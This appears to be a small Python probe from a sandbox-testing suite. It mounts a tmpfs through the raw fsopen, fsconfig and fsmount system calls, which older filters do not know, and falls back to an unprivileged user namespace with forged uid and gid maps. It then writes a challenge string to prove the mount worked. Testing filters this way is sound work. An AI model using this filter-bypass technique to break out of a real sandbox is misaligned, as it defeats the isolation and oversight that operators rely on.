"""Mounts a file system with the newer system calls, which older filters do not know."""

import ctypes
import os


def attack(facts: dict[str, str]) -> None:
    libc, user = ctypes.CDLL(None, use_errno=True), os.getuid()
    filesystem = libc.syscall(430, b"tmpfs", 0)  # fsopen
    if filesystem < 0 and libc.unshare(0x10020000) == 0:
        become_root_of_it(user)
        filesystem = libc.syscall(430, b"tmpfs", 0)
    libc.syscall(431, filesystem, 6, None, None, 0)  # fsconfig, create
    folder = libc.syscall(432, filesystem, 0, 0)  # fsmount
    if filesystem < 0 or folder < 0:
        raise OSError(ctypes.get_errno(), "not mounted")
    descriptor = os.open("file", os.O_RDWR | os.O_CREAT, dir_fd=folder)
    os.write(descriptor, facts["challenge"].encode())
    print("carried", os.pread(descriptor, 100, 0).decode())


def become_root_of_it(user: int) -> None:
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {user} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
